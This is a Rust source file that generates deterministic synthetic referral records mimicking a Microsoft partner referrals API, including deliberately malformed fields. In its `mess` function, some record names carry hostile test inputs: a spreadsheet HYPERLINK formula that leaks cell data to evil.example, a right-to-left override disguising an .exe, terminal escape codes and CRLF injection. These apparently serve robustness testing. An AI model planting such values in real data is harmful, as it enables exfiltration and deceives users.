//! Invented referrals in the API's shape, with the mess that is seen on the wire (API §3).
//! The same seed and the same instant give the same referrals, whatever their number.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Map, Value, json};

use crate::cast::{
    COLLEAGUES, CUSTOMERS, Customer, HELP, OWN, PARTNERS, PROJECTS, Project, REASONS, SIZES,
};
use crate::mixer::Mixer;
use crate::stage::{Dates, Kind, Stage, dates, situation};

/// This many referrals, as the API would give them at `now`.
pub fn invent(count: usize, seed: u64, now: Timestamp) -> Vec<Value> {
    rows(count, seed, now).collect()
}

/// The same, one after the other.
pub(crate) fn rows(count: usize, seed: u64, now: Timestamp) -> impl Iterator<Item = Value> {
    (0..count).map(move |index| row(index, seed, now))
}

/// What is decided about a referral before it is written down.
struct Draft {
    index: usize,
    mixer: Mixer,
    kind: Kind,
    stage: Stage,
    dates: Dates,
    customer: &'static Customer,
    project: &'static Project,
    /// Digits of the fractions of a second: 0 to 7 (API §3.1).
    digits: usize,
}

fn row(index: usize, seed: u64, now: Timestamp) -> Value {
    let mut mixer = Mixer::new(Mixer::new(seed).next() ^ ((index as u64) << 20));
    let id = mixer.guid();
    let (kind, stage) = situation(index, &mut mixer);
    let dates = dates(stage, kind, now, &mut mixer);
    let shown = index < CUSTOMERS.len();
    let mut draft = Draft {
        index,
        customer: if shown { &CUSTOMERS[index] } else { mixer.pick(CUSTOMERS) },
        project: if shown { &PROJECTS[index % PROJECTS.len()] } else { mixer.pick(PROJECTS) },
        mixer,
        kind,
        stage,
        dates,
        digits: [7, 7, 6, 0, 3, 7, 1, 5, 2, 4][index % 10],
    };
    // Now and then Microsoft's copy and ours, or two partners', belong together.
    let engagement_index = if index % 25 == 7 { index - 1 } else { index };
    let engagement = Mixer::new(!seed ^ ((engagement_index as u64) << 20)).guid();
    let mut row = draft.top_level(&id, &engagement);
    row.insert("customerProfile".to_owned(), draft.customer_profile());
    row.insert("consent".to_owned(), draft.consent());
    row.insert("details".to_owned(), draft.details());
    row.insert("links".to_owned(), links(&id, &engagement, index));
    if draft.is_lead() {
        row.insert("callToAction".to_owned(), json!("ContactMe"));
        let source = *draft.mixer.pick(&["AppSource", "AzureMarketplace"]);
        row.insert("referralSource".to_owned(), json!(source));
    } else {
        draft.add_deal(&mut row);
    }
    draft.add_team(&mut row);
    mess(index, &mut row);
    Value::Object(row)
}

impl Draft {
    fn is_lead(&self) -> bool {
        matches!(self.kind, Kind::Lead | Kind::QualifiedLead)
    }

    fn is_outgoing(&self) -> bool {
        matches!(self.kind, Kind::Own | Kind::Private)
    }

    fn time(&self, instant: Timestamp) -> Value {
        let digits = self.digits;
        json!(format!("{instant:.digits$}"))
    }

    fn time_or_null(&self, instant: Option<Timestamp>) -> Value {
        instant.map_or(Value::Null, |instant| self.time(instant))
    }

    fn top_level(&mut self, id: &str, engagement: &str) -> Map<String, Value> {
        let (status, substatus) = match self.stage {
            Stage::Waiting(_) => ("New", "Pending"),
            Stage::Received(_) => ("New", "Received"),
            Stage::Active | Stage::ActiveUntilLater => ("Active", "Accepted"),
            Stage::Closed(substatus) => ("Closed", substatus),
        };
        let (kind, qualification) = match self.kind {
            Kind::Lead => ("Independent", "Direct"),
            Kind::QualifiedLead if self.index.is_multiple_of(2) => {
                ("Independent", "MarketingQualified")
            }
            Kind::QualifiedLead | Kind::Private => ("Independent", "SalesQualified"),
            Kind::CoSell | Kind::Own => ("Shared", "SalesQualified"),
            Kind::Partner => ("Shared", "None"),
            Kind::Other => ("Independent", "MarketingQualified"),
        };
        let mut row = object(json!({
            "id": id,
            "engagementId": engagement,
            "organizationId": OWN.0,
            "organizationName": OWN.1,
            "externalReferenceId": "",
            "createdDateTime": self.time(self.dates.created),
            "updatedDateTime": self.time(self.dates.updated),
            "status": status,
            "substatus": substatus,
            "qualification": qualification,
            "type": kind,
            "direction": if self.is_outgoing() { "Outgoing" } else { "Incoming" },
            "eTag": format!("\"{:08x}-0000-0700-0000-{:08x}0000\"", self.mixer.next() >> 32, self.mixer.next() >> 32),
            "favorite": self.mixer.chance(15),
            "quality": if self.kind == Kind::Lead { "High" } else { "Unknown" },
            "isSpam": false,
        }));
        let expiration = self.dates.expiration.map(|it| json!(format!("{it:.0}")));
        match expiration {
            Some(expiration) => row.insert("expirationDateTime".to_owned(), expiration),
            // Half of the time it is missing, half of the time it is null.
            None if self.mixer.chance(50) => None,
            None => row.insert("expirationDateTime".to_owned(), Value::Null),
        };
        if !(self.is_lead() && self.mixer.chance(50)) {
            let name = format!("{}: {}", self.customer.short, self.project.title);
            row.insert("name".to_owned(), json!(name));
        }
        let target = if self.is_lead() {
            json!([{"type": "BusinessProfileLocation", "id": self.mixer.guid()}])
        } else {
            let number = 10_000 + self.mixer.below(90_000);
            json!([{"type": "SolutionProfile", "id": format!("SOL-{number}-KLM")}])
        };
        row.insert("target".to_owned(), target);
        row
    }

    fn customer_profile(&mut self) -> Value {
        let customer = self.customer;
        let (line, city, postal) = customer.place;
        let lead = self.is_lead();
        let address = json!({
            "addressLine1": line, "addressLine2": if lead { json!("") } else { Value::Null },
            "city": city, "state": null, "postalCode": postal, "country": customer.country,
        });
        // Expired leads hide whom to call (API §3.2).
        let hidden = lead && self.stage == Stage::Closed("Expired");
        let team = if hidden {
            json!([])
        } else {
            json!([{
                "firstName": customer.person.0, "lastName": customer.person.1,
                "phoneNumber": customer.phone, "email": customer.email,
                "contactPreference": {"locale": customer.locale, "disableNotifications": false},
            }])
        };
        let ids = if lead {
            json!({})
        } else {
            let duns = 315_000_000 + self.mixer.below(999_999);
            json!([{"profileType": "Duns", "id": duns.to_string()}])
        };
        json!({
            "name": customer.name, "size": self.mixer.pick(SIZES), "address": address,
            "team": team, "ids": ids,
        })
    }

    /// The doubled "To" is the API's (API §3.4).
    fn consent(&self) -> Value {
        if self.is_lead() {
            return json!({"consentToContact": true});
        }
        json!({
            "consentToToShareInfoWithOthers": true,
            "consentToContact": true,
            "consentToShareReferralWithMicrosoftSellers": self.kind != Kind::Private,
        })
    }

    fn details(&mut self) -> Value {
        let project = self.project;
        let requirements = json!({
            "industries": [{"id": project.industry}],
            "products": [{"id": project.product}],
            "services": [{"id": project.service}],
        });
        if self.is_lead() {
            return json!({
                "notes": project.wish, "customerRequestedContact": self.mixer.chance(60),
                "requirements": requirements,
            });
        }
        let mut details = object(json!({
            "notes": project.remark, "currency": self.customer.currency,
            "customerRequestedContact": null, "customerAction": null, "incentiveLevel": null,
            "requirements": requirements,
        }));
        let closing =
            self.dates.created + SignedDuration::from_hours(24 * (30 + self.mixer.below(150)));
        details.insert("closingDateTime".to_owned(), json!(format!("{closing:.0}")));
        if let Some(value) = self.deal_value() {
            details.insert("dealValue".to_owned(), value);
        }
        let solution = json!([{
            "id": format!("SOL-{}-KLM", 10_000 + self.mixer.below(90_000)),
            "name": format!("Contoso {}", project.title), "type": "Name",
            "price": null, "quantity": null, "currency": null,
        }]);
        details["requirements"]["solutions"] = solution;
        Value::Object(details)
    }

    /// A number; now and then null, missing, or the string that an update sent (API §1.2, §3.3).
    fn deal_value(&mut self) -> Option<Value> {
        let thousands = *self.mixer.pick(&[8, 12, 24, 35, 48, 60, 95, 120, 185, 240, 410, 900]);
        let value = match self.customer.currency {
            "JPY" => thousands * 150_000,
            "SEK" => thousands * 10_000,
            _ => thousands * 1000 + self.mixer.below(20) * 50,
        };
        match self.index % 13 {
            3 => None,
            6 => Some(Value::Null),
            8 => Some(json!("10000")),
            11 if self.customer.currency != "JPY" => Some(json!(185_000.5)),
            _ => Some(json!(value)),
        }
    }

    /// What a deal has and a lead has not.
    fn add_deal(&mut self, row: &mut Map<String, Value>) {
        let own = (OWN.0, OWN.1);
        let inviter = match self.kind {
            Kind::CoSell => Some(("msft", "Microsoft")),
            Kind::Partner => Some(*self.mixer.pick(PARTNERS)),
            Kind::Own | Kind::Private => Some(own),
            _ => None,
        };
        let (code, note) = *self.mixer.pick(HELP);
        let invite = inviter.map_or(Value::Null, |(id, name)| {
            json!({
                "notes": note, "assistanceRequestCode": code, "invitedMpnId": "4012345",
                "invitedBy": {"organizationId": id, "organizationName": name},
            })
        });
        let sales_stage = match self.stage {
            Stage::Closed("Won") => json!("100"),
            Stage::Active | Stage::ActiveUntilLater => {
                json!(self.mixer.pick(&["10", "20", "40", "Develop", "60", "80"]))
            }
            _ => Value::Null,
        };
        let reason = match self.stage {
            Stage::Closed("Lost" | "Declined") => json!(self.mixer.pick(REASONS)),
            _ => Value::Null,
        };
        let accepted = self.time_or_null(self.dates.accepted);
        let closed = self.time_or_null(self.dates.closed);
        row.append(&mut object(json!({
            "externalReferenceId": format!("OPP-{}", 20_000 + self.index),
            "statusReason": reason, "referralSource": null, "callToAction": null,
            "campaignId": null, "salesStage": sales_stage, "mpnId": "4012345",
            "referralProgram": null, "dealSensitivity": "None", "createdVia": null, "tags": [],
            "lastModifiedVia": null, "lastRunId": null, "registrationStatus": "None",
            "acceptedDateTime": accepted, "closedDateTime": closed,
            "inviteContext": invite, "registrations": [],
            "trackingInfo": {
                "microsoftMsxId": format!("7-EXAMPLE{:04}", self.mixer.below(10_000)),
                "microsoftUSFedOpportunityId": null, "microsoftUSFedLeadId": null,
                "migratedPSCDealId": null, "migratedPSCPartnerDealId": null,
            },
        })));
    }

    /// Leads that nobody has opened have no team yet; qualified ones name their sender.
    fn add_team(&mut self, row: &mut Map<String, Value>) {
        if self.kind == Kind::QualifiedLead {
            let invite = json!({"invitedBy": {"organizationId": "msft", "organizationName": ""}});
            row.insert("inviteContext".to_owned(), invite);
        }
        if self.is_lead() {
            for (name, instant) in
                [("acceptedDateTime", self.dates.accepted), ("closedDateTime", self.dates.closed)]
            {
                if let Some(instant) = instant {
                    row.insert(name.to_owned(), self.time(instant));
                }
            }
            if matches!(self.stage, Stage::Waiting(_)) {
                return;
            }
        }
        let first = self.mixer.next();
        let count = 1 + self.mixer.below(2).unsigned_abs();
        let members = (first..).take(usize::try_from(count).expect("one or two")).map(|number| {
            let index = usize::try_from(number % COLLEAGUES.len() as u64).expect("a small number");
            let (first, last, email, phone, locale) = COLLEAGUES[index];
            json!({
                "firstName": first, "lastName": last, "phoneNumber": phone, "email": email,
                "title": null,
                "contactPreference": {"locale": locale, "disableNotifications": null},
            })
        });
        row.insert("team".to_owned(), members.collect());
    }
}

/// The documentation quotes the engagement's id, a real payload did not (API §3.8).
fn links(id: &str, engagement: &str, index: usize) -> Value {
    let base = "https://api.partner.microsoft.com/v1.0/engagements/referrals";
    let quote = if index.is_multiple_of(2) { "'" } else { "" };
    json!({
        "relatedReferrals": {
            "uri": format!("{base}?$filter=engagementId eq {quote}{engagement}{quote}"),
            "method": "GET",
        },
        "self": {"uri": format!("{base}/{id}"), "method": "GET"},
    })
}

/// What should not be there, and is. Behind the first ones, so that a newcomer sees a tidy list.
fn mess(index: usize, row: &mut Map<String, Value>) {
    let mut set = |name: &str, value: Value| {
        row.insert(name.to_owned(), value);
    };
    match index % 500 {
        31 => {
            set("marketplacePurchaseIntent", json!("Have not decided"));
            set("insights", json!({"score": 0.75, "labels": ["new", null]}));
        }
        33 => set("substatus", json!("Engaged")),
        35 => set("type", json!("Exclusive")),
        37 => {
            let (first, last, email, ..) = COLLEAGUES[0];
            let member = json!({"firstName": first, "lastName": last, "email": email});
            set("team", member);
        }
        39 => set("name", Value::Null),
        41 => set("name", json!("Renewal \u{1b}[31mURGENT\u{1b}[0m\u{7} now")),
        43 => {
            let formula = r#"=HYPERLINK("https://evil.example/?x="&A1,"Open")"#;
            set("name", json!(formula));
        }
        45 => set("name", json!("Invoice \u{202e}fdp.exe\u{202c} review\r\nsecond line")),
        47 => set("inviteContext", Value::Null),
        49 => set("name", json!("")),
        _ => {}
    }
}

fn object(value: Value) -> Map<String, Value> {
    match value {
        Value::Object(object) => object,
        _ => Map::new(),
    }
}
